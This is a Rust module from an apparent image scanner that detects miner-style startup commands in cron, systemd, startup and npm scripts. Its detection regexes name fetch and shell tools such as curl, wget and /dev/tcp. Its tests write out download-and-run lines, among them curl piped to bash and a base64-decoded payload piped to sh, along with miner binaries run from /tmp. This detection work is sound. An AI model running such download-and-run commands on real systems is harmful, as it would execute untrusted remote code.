//! What a command line runs, and whether that is how a miner would start:
//! from a temp or hidden place, by downloading (or decoding) code and
//! running it, or as an executable no installed package owns. Shared by
//! the cron, systemd, startup-file and npm-script checks.

use crate::check::CheckContext;
use regex::Regex;
use std::sync::LazyLock;

/// Why a command line is suspicious.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Suspicion {
    /// Runs a program or script that lives in a temp or hidden place.
    TempOrHidden(String),
    /// Fetches or decodes code and runs it.
    DownloadAndRun,
    /// Runs a system-path executable that no installed package owns.
    Unowned(String),
}

static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(curl|wget|fetch|tftp)\b|/dev/tcp/|\burllib\b|\brequests\.get\b|\bhttps?\.get\(",
    )
    .unwrap()
});
static DECODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bbase64\s+(-d|--decode)\b|\bxxd\s+-r\b|\bopenssl\s+enc\s+-d\b|\bBuffer\.from\([^)]*base64").unwrap()
});
static RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\|\s*(sudo\s+)?(\S*/)?(ba|da|z|k)?sh\b|\|\s*(\S*/)?(python[0-9.]*|perl|node)\b|\bchmod\s+(\+x|[ugoa]*\+[rw]*x|[0-7]?[0-7]*[157][0-7]*)\s|\b(ba)?sh\s+-c\b|\beval\b|(&&|;)\s*\./|\bexec\s*\(|\bchild_process\b").unwrap()
});

/// Shell words that are not programs.
const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "in", "case",
    "esac", "[", "[[", "test", "!", "{", "}", "function", "return", "exit", "true", "false", ":",
];
/// Programs that run the next word.
const WRAPPERS: &[&str] = &[
    "nohup", "sudo", "exec", "nice", "ionice", "setsid", "env", "stdbuf", "time", "chrt",
    "taskset", "command", "flock",
];
/// Interpreters whose first non-option argument is a script they run.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "busybox", "python", "python2", "python3", "perl", "node",
    "ruby", "php",
];

/// Directories whose executables should all come from a package.
pub const SYSTEM_DIRS: &[&str] = &[
    "usr/bin/",
    "usr/sbin/",
    "bin/",
    "sbin/",
    "usr/lib/",
    "lib/",
    "lib64/",
    "usr/lib64/",
    "usr/libexec/",
    "lib32/",
    "usr/lib32/",
];

/// Analyses one command line (`cwd` is where it runs, if known).
pub fn analyze(command: &str, ctx: &CheckContext<'_>) -> Vec<Suspicion> {
    let mut found = Vec::new();
    let fetches = FETCH.is_match(command) || DECODE.is_match(command);
    if fetches && RUN.is_match(command) {
        found.push(Suspicion::DownloadAndRun);
    }
    let mut cwd: Option<String> = None;
    for simple in split_commands(command) {
        let words: Vec<&str> = simple
            .split_whitespace()
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
            .filter(|w| !w.is_empty())
            .collect();
        let mut at = 0;
        while at < words.len()
            && (words[at].contains('=') && !words[at].starts_with('/')
                || KEYWORDS.contains(&words[at]))
        {
            at += 1;
        }
        while at < words.len() && WRAPPERS.contains(&basename(words[at])) {
            at += 1;
            while at < words.len()
                && (words[at].starts_with('-')
                    || words[at].parse::<f64>().is_ok()
                    || words[at].contains('='))
            {
                at += 1;
            }
        }
        let Some(&program) = words.get(at) else {
            continue;
        };
        if program == "cd" {
            cwd = words.get(at + 1).map(|d| d.to_string());
            continue;
        }
        let mut executed = vec![program];
        if INTERPRETERS
            .contains(&basename(program).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
            && let Some(script) = words[at + 1..].iter().find(|w| !w.starts_with('-'))
        {
            executed.push(script);
        }
        for path in executed {
            let path = match (&cwd, path.strip_prefix("./")) {
                (Some(dir), Some(rest)) => format!("{}/{rest}", dir.trim_end_matches('/')),
                _ => path.to_string(),
            };
            if is_temp_or_hidden(&path) {
                found.push(Suspicion::TempOrHidden(path));
            } else if let Some(rel) = path.strip_prefix('/')
                && let Some(resolved) = ctx.tree.resolve(rel.as_bytes())
                && SYSTEM_DIRS
                    .iter()
                    .any(|d| rel.starts_with(d) || resolved.starts_with(d.as_bytes()))
                && ctx
                    .tree
                    .entry(&resolved)
                    .is_some_and(|(meta, _)| meta.kind == imgscan_sbom::FileKind::File)
                && ctx.is_owned(rel.as_bytes()) == Some(false)
            {
                found.push(Suspicion::Unowned(path));
            }
        }
    }
    found.dedup();
    found
}

/// Splits a command line into simple commands at `;`, `&&`, `||`, `|`,
/// `&`, newlines and command substitutions.
fn split_commands(command: &str) -> Vec<&str> {
    command
        .split(['\n', ';', '|', '&', '`', '(', ')'])
        .map(str::trim)
        .filter(|c| !c.is_empty())
        .collect()
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Whether a path is in `/tmp`, `/var/tmp`, `/dev/shm`, or has a hidden
/// (dot) component.
pub fn is_temp_or_hidden(path: &str) -> bool {
    let path = path.trim_end_matches(['"', '\'', ';']);
    if !(path.starts_with('/') || path.starts_with("~/")) {
        return false;
    }
    let temp = ["/tmp", "/var/tmp", "/dev/shm"]
        .iter()
        .any(|t| path == *t || path.starts_with(&format!("{t}/")));
    temp || path
        .split('/')
        .any(|part| part.starts_with('.') && part != "." && part != "..")
}

#[cfg(test)]
mod tests {
    use super::*;
    use imgscan_sbom::test_tree::MapTree;

    fn check(command: &str) -> Vec<Suspicion> {
        let tree = MapTree::new(&[]);
        analyze(command, &CheckContext::new(&tree, &[]))
    }

    #[test]
    fn temp_and_hidden_programs() {
        assert_eq!(
            check("/tmp/kworker -o pool:3333"),
            [Suspicion::TempOrHidden("/tmp/kworker".into())]
        );
        assert_eq!(
            check("nohup /var/tmp/.x/sshd >/dev/null 2>&1 &"),
            [Suspicion::TempOrHidden("/var/tmp/.x/sshd".into())]
        );
        assert_eq!(
            check("sh /dev/shm/run.sh"),
            [Suspicion::TempOrHidden("/dev/shm/run.sh".into())]
        );
        assert_eq!(
            check("cd /tmp && ./xmrig"),
            [Suspicion::TempOrHidden("/tmp/xmrig".into())]
        );
        assert_eq!(
            check("/root/.cache/dbus-daemon"),
            [Suspicion::TempOrHidden("/root/.cache/dbus-daemon".into())]
        );
        assert!(
            check("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )")
                .is_empty()
        );
        assert!(
            check("rm -rf /tmp/cache").is_empty(),
            "mentioning /tmp is not running from it"
        );
        assert!(check("/usr/sbin/cron -f $EXTRA_OPTS").is_empty());
    }

    #[test]
    fn download_and_run() {
        assert!(
            check("curl -fsSL http://x.example/p.sh | bash").contains(&Suspicion::DownloadAndRun)
        );
        assert!(
            check("wget -q http://x/m -O /usr/bin/m; chmod +x /usr/bin/m; /usr/bin/m")
                .contains(&Suspicion::DownloadAndRun)
        );
        assert!(check("echo Y3VybCB4fHNo | base64 -d | sh").contains(&Suspicion::DownloadAndRun));
        assert!(
            check("(curl -s http://x/i.sh || wget -q -O- http://x/i.sh) | sh")
                .contains(&Suspicion::DownloadAndRun)
        );
        assert!(
            check("curl -fsS https://example.org/health > /dev/null").is_empty(),
            "a fetch alone runs nothing"
        );
    }

    #[test]
    fn unowned_system_executables() {
        let tree = MapTree::new(&[("usr/bin/kswapd0", "\x7fELF"), ("usr/bin/cron", "\x7fELF")])
            .link("bin", "usr/bin");
        let mut cron = imgscan_sbom::Package::new(
            "cron",
            "1",
            imgscan_sbom::Ecosystem::Deb,
            String::new(),
            String::new(),
        );
        cron.files = vec![b"usr/bin/cron".to_vec()];
        let packages = [cron];
        let ctx = CheckContext::new(&tree, &packages);
        assert_eq!(
            analyze("/bin/kswapd0 -B", &ctx),
            [Suspicion::Unowned("/bin/kswapd0".into())]
        );
        assert!(analyze("/usr/bin/cron -f", &ctx).is_empty());
        let ctx = CheckContext::new(&tree, &[]);
        assert!(
            analyze("/bin/kswapd0", &ctx).is_empty(),
            "no package database, no ownership claim"
        );
    }
}
